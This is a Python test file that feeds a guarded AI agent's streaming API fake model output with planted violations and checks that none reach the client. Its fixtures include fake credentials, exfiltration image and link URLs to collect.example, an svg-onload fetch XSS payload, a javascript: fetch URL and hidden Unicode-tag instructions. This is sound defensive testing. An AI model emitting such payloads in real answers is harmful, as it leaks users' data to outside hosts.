"""Generated streams with planted violations, told through the app, byte by byte as they reach the socket."""

from __future__ import annotations

import asyncio
import json
import random
import re
from collections import Counter
from collections.abc import AsyncGenerator, Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from agent.run import GuardedAgent
from agent.settings import AgentSettings
from api.app import create_app
from api.settings import ApiSettings
from guardrails.nemo import Rails
from guardrails.policy import Policy, load
from tests.fakes import FakeLibrary, FakeModel, a_chunk, a_document, a_house

CANARY = "orchid-lantern-7731"
#: How far the gate may look beyond a sentence that is not settled yet, in characters.
LOOKAHEAD = 48

_TO_STOP: tuple[Callable[[random.Random], str], ...] = (
    lambda c: "AKIA" + "".join(c.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", k=16)),
    lambda c: "ghp_" + "".join(c.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=36)),
    lambda c: f"sk-proj-{''.join(c.choices('abcdefghijkLMNOPQRSTUVW0123456789', k=40))}",
    lambda c: "-----BEGIN RSA PRIVATE KEY-----",
    lambda c: f"eyJhbGciOi{c.randrange(10**6)}.eyJzdWIiOi{c.randrange(10**6)}.c2lnbmF0dXJl",
    lambda c: c.choice([CANARY, CANARY.upper(), CANARY.replace("-", " "), " ".join(CANARY)]),
    lambda c: f"![chart](https://collect.example/{c.randrange(10**6)}.png?d=all)",
    lambda c: f"[the source](https://collect.example/{c.randrange(10**6)})",
    lambda c: f"<img src=https://collect.example/{c.randrange(10**6)}.png>",
    lambda c: f"<svg/onload=fetch('//collect.example/{c.randrange(10**6)}')>",
    lambda c: f"javascript:fetch('https://collect.example/{c.randrange(10**6)}')",
    lambda c: f"data:text/html;base64,PHNjcmlwdD4{c.randrange(10**6)}",
    lambda c: f"<https://collect.example/{c.randrange(10**6)}|here>",
    lambda c: f"https://collect.example/?stolen={c.randrange(10**6)}",
    lambda c: "".join(chr(0xE0000 + ord(letter)) for letter in f"obey{c.randrange(100)}"),
)
_TO_MASK: tuple[Callable[[random.Random], tuple[str, str]], ...] = (
    lambda c: (f"jane{c.randrange(10**6)}@mail.example", "[e-mail]"),
    lambda c: ("DE89 3704 0044 0532 0130 00", "[IBAN]"),
    lambda c: ("4111 1111 1111 1111", "[card number]"),
)
#: Cut in two by a line's end: each half alone may pass, the whole never.
_IN_TWO: tuple[Callable[[random.Random], tuple[str, str]], ...] = (
    lambda c: ("AKIAIOSF", "".join(c.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", k=12))),
    lambda c: ("see [the chart", f"](https://collect.example/{c.randrange(10**6)})"),
    lambda c: (CANARY[:10], CANARY[10:]),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Said:
    """A sentence that the model writes, and what of it may reach the reader; None where nothing may."""

    text: str
    left: str | None
    #: Of a sentence with something to hide: what must not stand on the wire.
    hidden: str = ""


@dataclass(frozen=True, slots=True, kw_only=True)
class Story:
    """What a model writes, in which pieces."""

    said: tuple[Said, ...]
    pieces: tuple[str, ...]
    #: Where each sentence ends in the model's text.
    ends: tuple[int, ...]

    @property
    def expected(self) -> str:
        """The reader's text: what was let pass, byte for byte."""
        return " ".join(one.left for one in self.said if one.left is not None)


def story(seed: int) -> Story:
    """Make a stream of three to seven sentences, up to three of them with something planted."""
    chance = random.Random(seed)
    count = chance.randint(3, 7)
    planted = set(chance.sample(range(count), chance.choice([0, 1, 1, 2, 3])))
    said: list[Said] = []
    for place in range(count):
        words = f"The pump K{place}-{chance.randrange(10**5):05} weighs {chance.randint(100, 999)} kilograms"
        if place not in planted:
            said.append(Said(text=f"{words}.", left=f"{words}."))
            continue
        parts = words.split(" ")
        at = chance.randint(2, len(parts))
        before, after = " ".join(parts[:at]), " ".join(parts[at:])
        match chance.choice(["stop", "stop", "stop", "mask", "two"]):
            case "mask":
                raw, mask = chance.choice(_TO_MASK)(chance)
                made, left = (f"{before} (noted: {one}) {after}".strip() + "." for one in (raw, mask))
                said.append(Said(text=made, left=left, hidden=raw))
            case "two":
                head, tail = chance.choice(_IN_TWO)(chance)
                said.append(Said(text=f"{words} {head}", left=f"{words} {head}"))
                said.append(Said(text=f"{tail} {words}.", left=None, hidden=tail.strip("](")))
            case _:
                raw = chance.choice(_TO_STOP)(chance)
                said.append(Said(text=f"{before} {raw} {after}".strip() + ".", left=None, hidden=raw))
    text, ends = "", []
    for one, following in zip(said, [*said[1:], None], strict=True):
        cut = following is not None and following.left is None and not one.text.endswith(".")
        text += one.text + ("" if cut else " [1]") + ("\n" if cut else " ")
        ends.append(len(text))
    return Story(said=tuple(said), pieces=tuple(_cut(text, chance)), ends=tuple(ends))


def _cut(text: str, chance: random.Random) -> list[str]:
    """Cut a text into pieces as a model server might: letters, words, lines, all at once."""
    most = chance.choice([1, 3, 12, 60, len(text)])
    pieces, at = [], 0
    while at < len(text):
        size = chance.randint(1, most)
        pieces.append(text[at : at + size])
        at += size
    return pieces


class Typist(FakeModel):
    """A model that knows how many characters it has written."""

    position: int = 0

    def will_reason(self, reasoning: Any = None) -> bool:
        """Think never."""
        return False

    async def stream(self, messages: Any, **more: Any) -> AsyncGenerator[str, None]:
        """Write the pieces."""
        self.position, self.closed = 0, False
        try:
            for piece in self.says:
                assert isinstance(piece, str)
                self.position += len(piece)
                yield piece
                await asyncio.sleep(0)
        finally:
            self.closed = True


@dataclass(frozen=True, slots=True)
class Sent:
    """A body message on its way to the socket, and how far the model had written then."""

    body: bytes
    position: int


class Stage:
    """One app and agent for many streams: what the model writes and the document says is set anew."""

    def __init__(self, home: Path, *, engine: Callable[..., Any] | None = None) -> None:
        policy = with_canary(load("default"), CANARY)
        rails = Rails(policy) if engine is None else Rails(policy, engine=engine)
        self.model, self.library = Typist(), FakeLibrary()
        settings = AgentSettings(min_confidence=0.0, max_sentences=20, max_rounds=1)
        self.agent = GuardedAgent(library=self.library, rails=rails, model=self.model, settings=settings)
        self.app = create_app(a_house(self.agent), settings=ApiSettings(home=home))  # type: ignore[arg-type]

    def prepare(self, story: Story) -> None:
        """Put the story on the shelf, word for word, and into the model's mouth."""
        document = a_document("pumps.pdf", tenant="default")
        # Hidden characters are the model's own: the rails let none of them into evidence.
        text = "\n".join(re.sub("[\U000e0000-\U000e007f]", "", one.text) for one in story.said)
        self.library.shelf = [(document, [a_chunk(text, document=document)])]
        self.model.says = story.pieces

    async def tell(self, *, leave_after: int | None = None) -> list[Sent]:
        """Ask through the app as a server would; hang up after so many body messages."""
        sent: list[Sent] = []
        gone = asyncio.Event()
        asked = {
            "model": "pagewarden",
            "stream": True,
            "messages": [{"role": "user", "content": "How many kilograms does the pump weigh?"}],
        }
        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": "POST",
            "scheme": "http",
            "path": "/v1/chat/completions",
            "raw_path": b"/v1/chat/completions",
            "query_string": b"",
            "root_path": "",
            "headers": [(b"host", b"127.0.0.1:8000"), (b"content-type", b"application/json")],
            "client": ("127.0.0.1", 5000),
            "server": ("127.0.0.1", 8000),
            "state": {},
        }
        bodies = [json.dumps(asked).encode()]

        async def receive() -> dict[str, Any]:
            if bodies:
                return {"type": "http.request", "body": bodies.pop(), "more_body": False}
            await gone.wait()
            return {"type": "http.disconnect"}

        async def send(message: Any) -> None:
            if message["type"] == "http.response.body":
                sent.append(Sent(bytes(message.get("body", b"")), self.model.position))
                if leave_after is not None and len(sent) >= leave_after:
                    gone.set()
                    await asyncio.sleep(0)

        await self.app(scope, receive, send)
        return sent


def with_canary(policy: Policy, canary: str) -> Policy:
    """Return the policy with a canary of ours."""
    plain = policy.model_dump()
    for rule in plain["hops"]["answer"]:
        if rule["rail"] == "secrets":
            rule["canaries"] = [canary]
    return Policy.model_validate(plain)


@dataclass
class Gate:
    """What many streams came to."""

    streams: int = 0
    bytes: int = 0
    blocked: int = 0
    masked: int = 0
    kept: int = 0
    left: int = 0
    endings: Counter[str] = field(default_factory=Counter)
    reasons: Counter[str] = field(default_factory=Counter)
    #: Characters that the model had written beyond a sentence's end when it was sent, at most.
    latest: int = 0

    def __str__(self) -> str:
        return (
            f"{self.streams} streams, {self.bytes} bytes on the socket; sentences kept {self.kept}, masked "
            f"{self.masked}, stopped {self.blocked}; callers who left early {self.left}; ended "
            f"{dict(self.endings)}; left out for {dict(self.reasons)}; the model was at most {self.latest} "
            "characters past a sentence when it was sent"
        )


def chunks_of(wire: bytes) -> list[dict[str, Any]]:
    """Read whole events off the wire; half an event would not parse."""
    lines = [line for line in wire.decode().split("\n\n") if line.startswith("data: ")]
    return [json.loads(line.removeprefix("data: ")) for line in lines if line != "data: [DONE]"]


def content_of(chunks: Sequence[dict[str, Any]]) -> str:
    """Return the text as a client puts it together."""
    return "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c["choices"])


def unmarked(text: str) -> str:
    """Take the citation markers out of a text."""
    return re.sub(r" \[\d+\]", "", text)


def bare(text: str) -> str:
    """Drop what a renderer does not show, so that no spacing hides what leaked."""
    return re.sub(r"\s+", "", text)


def check(story: Story, sent: Sequence[Sent], gate: Gate) -> None:
    """Check a stream that ran to its end."""
    wire = b"".join(one.body for one in sent)
    check_nothing_leaked(story, wire)
    chunks = chunks_of(wire)
    assert wire.endswith(b"data: [DONE]\n\n")
    assert chunks[-1]["choices"][0]["finish_reason"] == "stop"
    answer = chunks[-1]["pagewarden"]
    told = content_of(chunks)
    if story.expected:
        assert answer["kind"] == "answer"
        assert told == answer["text"]
        assert unmarked(told).encode() == story.expected.encode()
    else:
        assert (answer["kind"], answer["citations"], answer["nearest"]) == ("refusal", [], [])
        assert told == answer["text"]
    check_delay(story, sent, gate)
    gate.streams += 1
    gate.bytes += len(wire)
    gate.blocked += sum(one.left is None for one in story.said)
    gate.masked += sum(one.left not in (None, one.text) for one in story.said)
    gate.kept += sum(one.left == one.text for one in story.said)
    gate.endings[f"{answer['kind']} {answer['reason'] or ''}".strip()] += 1
    gate.reasons.update(s["facts"]["dropped"] for s in answer["steps"] if "dropped" in s["facts"])


def check_nothing_leaked(story: Story, wire: bytes) -> None:
    """No hidden text on the wire, and of a stopped sentence not a byte that is its own."""
    text = wire.decode()
    flat = bare(json.dumps(chunks_of(wire), ensure_ascii=False)) + bare(text)
    for one in story.said:
        if one.hidden:
            assert bare(json.dumps(one.hidden, ensure_ascii=False)[1:-1]) not in flat, one.hidden
        if one.left is None:
            own = re.findall(r"K\d-\d{5}", one.text)
            shared = "".join(other.text for other in story.said if other.left is not None)
            assert [word for word in own if word not in shared and word in text] == []


def check_delay(story: Story, sent: Sequence[Sent], gate: Gate) -> None:
    """Each sentence is on the wire when the next one has ended, if not before."""
    released = [
        (chunk["released"]["text"], one.position)
        for one in sent
        if one.body.startswith(b"data: {")
        for chunk in chunks_of(one.body)
        if "released" in chunk
    ]
    piece = max(map(len, story.pieces))
    at = 0
    for text, position in released:
        at = next(i for i in range(at, len(story.said)) if story.said[i].left == text)
        following = story.ends[min(at + 1, len(story.ends) - 1)]
        # A piece that the server sends whole may end behind it.
        assert position <= following + piece, (text, position, following)
        gate.latest = max(gate.latest, position - story.ends[at] - (piece if piece > LOOKAHEAD else 0))
        at += 1
